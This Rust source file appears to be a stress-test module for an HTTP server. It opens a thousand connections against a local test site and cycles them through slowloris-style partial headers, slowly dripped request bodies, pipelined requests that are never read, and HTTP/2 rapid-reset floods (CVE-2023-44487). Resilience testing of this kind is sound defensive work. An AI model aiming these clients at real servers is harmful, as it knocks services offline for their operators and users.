//! A thousand connections of clients that are slow, or flood. Each does one thing, again and again; where the host closes
//! its connection, it comes back with a new one.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::site::Site;

/// Connections in all.
const CONNECTIONS: usize = 1000;

/// How long one that was turned away waits before it comes back.
const BACK: Duration = Duration::from_millis(250);

/// Requests that are begun and reset at once on an HTTP/2 connection, each second.
const RESETS: usize = 50;

/// How long a client that reads nothing holds a connection.
const HOLDS: Duration = Duration::from_secs(10);

/// Has all of them at it until it is told to stop.
pub(super) fn bother(site: &Site, stop: &AtomicBool) -> Result<()> {
    let address = site.address();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let mut clients = JoinSet::new();
        for number in 0..CONNECTIONS {
            clients.spawn(async move {
                loop {
                    // Being cut off is what they are there for.
                    let _ = match number % 4 {
                        0 => half_a_head(address).await,
                        1 => dripping_body(address).await,
                        2 => never_reading(address).await,
                        _ => rapid_resets(address).await,
                    };
                    tokio::time::sleep(BACK).await;
                }
            });
        }
        while !stop.load(Ordering::Relaxed) {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        clients.abort_all();
    });
    Ok(())
}

/// Begins a head and adds to it, a byte a second.
async fn half_a_head(address: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"GET /hello HTTP/1.1\r\nhost: localhost\r\nx-long: ").await?;
    drip(&mut stream, Duration::from_secs(1)).await
}

/// Declares a large body and sends it ten bytes a second.
async fn dripping_body(address: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let head = "POST /hello HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000000\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&[b'x'; 100_000]).await?;
    drip(&mut stream, Duration::from_millis(100)).await
}

async fn drip(stream: &mut TcpStream, every: Duration) -> Result<()> {
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            // An answer, or the end: either way nothing more is to be had here.
            read = stream.read(&mut answer) => return Ok(read.map(drop)?),
            () = tokio::time::sleep(every) => stream.write_all(b"x").await?,
        }
    }
}

/// Asks and asks, and reads none of the answers.
async fn never_reading(address: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    let request = "GET /nowhere HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(100);
    let asks = async {
        while stream.write_all(request.as_bytes()).await.is_ok() {}
        std::future::pending::<()>().await;
    };
    let _ = tokio::time::timeout(HOLDS, asks).await;
    Ok(())
}

/// Begins requests over HTTP/2 and resets them at once (CVE-2023-44487).
async fn rapid_resets(address: SocketAddr) -> Result<()> {
    let (mut send, connection) = h2::client::handshake(TcpStream::connect(address).await?).await?;
    let floods = async {
        loop {
            for _ in 0..RESETS {
                send = send.ready().await?;
                let request = http::Request::post(format!("http://{address}/hello")).body(())?;
                let (_, mut stream) = send.send_request(request, false)?;
                stream.send_reset(h2::Reason::CANCEL);
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    };
    tokio::select! {
        ended = connection => Ok(ended?),
        failed = floods => failed,
    }
}
